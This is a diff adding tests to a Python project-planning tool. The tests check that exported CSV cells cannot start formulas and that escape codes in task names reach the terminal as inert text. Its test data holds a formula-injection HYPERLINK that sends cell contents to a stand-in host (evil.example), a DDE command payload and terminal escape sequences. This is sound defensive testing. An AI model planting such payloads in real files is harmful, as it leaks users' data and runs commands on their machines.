@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from collections.abc import Sequence
 from dataclasses import replace
 from datetime import date
@@ -26,7 +27,7 @@ from pmkit.engine.model import Holiday
 from pmkit.mspdi import write_mspdi
 from pmkit.outputs.plain_text import FORMULA_STARTS, csv_field, typed_text
 from pmkit.report import write_report
-from tests.builders import PLAN_HEADER, plan_of, task, write_workbook
+from tests.builders import PLAN_HEADER, plan_of, rewrite_part, task, write_workbook
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open the plan")'
 DDE = "+cmd|' /C calc'!A0"
@@ -210,3 +211,44 @@ def test_no_csv_field_starts_a_formula_and_the_text_survives(value: object) -> N
     is_number = written.lstrip("+-").replace(".", "", 1).isdigit()
     assert not written.startswith(FORMULA_STARTS) or is_number
     assert written in (value, "'" + value)
+
+
+_TERMINAL_CODES = "\x1b]0;PWNED\x07\x1b[31m\u202e\x9b"
+"""A window-title command, a bell, a colour, a right-to-left override and an 8-bit CSI."""
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        pytest.param(["validate"], id="validate"),
+        pytest.param(["schedule"], id="schedule"),
+        pytest.param(["schedule", "--format", "json"], id="schedule-json"),
+        pytest.param(["digest"], id="digest"),
+    ],
+)
+def test_terminal_codes_in_a_task_name_reach_the_terminal_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
+) -> None:
+    """A plan from someone else may hold escape codes in a cell (`_x001B_` in the XML): the
+    text a command prints shows them as `\\u001b`, so they cannot retitle, recolour or
+    reorder the owner's terminal. JSON keeps the same value (`\\u001b` is its escape)."""
+    plan = write_workbook(
+        tmp_path / "plan.xlsx",
+        {"Plan": [PLAN_HEADER, [1, "NAME", "Ann", None], [2, "Other", "Ann", 1]]},
+    )
+    encoded = "".join(f"_x{ord(ch):04X}_" if ch < " " else ch for ch in _TERMINAL_CODES)
+    rewrite_part(
+        plan,
+        "xl/worksheets/sheet1.xml",
+        lambda xml: xml.replace(b"NAME", f"Build{encoded}pages".encode()),
+    )
+    assert any("\x1b" in task.name for task in pmkit.read_plan(plan).tasks)
+    assert main([command[0], str(plan), *command[1:]]) in (0, 1)
+    captured = capsys.readouterr()
+    printed = captured.out + captured.err
+    assert "Build" in printed
+    assert not [ch for ch in _TERMINAL_CODES if not ch.isprintable() and ch in printed]
+    assert "\\u001b" in printed
+    if "json" in command:
+        names = [task["name"] for task in json.loads(captured.out)["tasks"]]
+        assert names[0] == f"Build{_TERMINAL_CODES}pages"
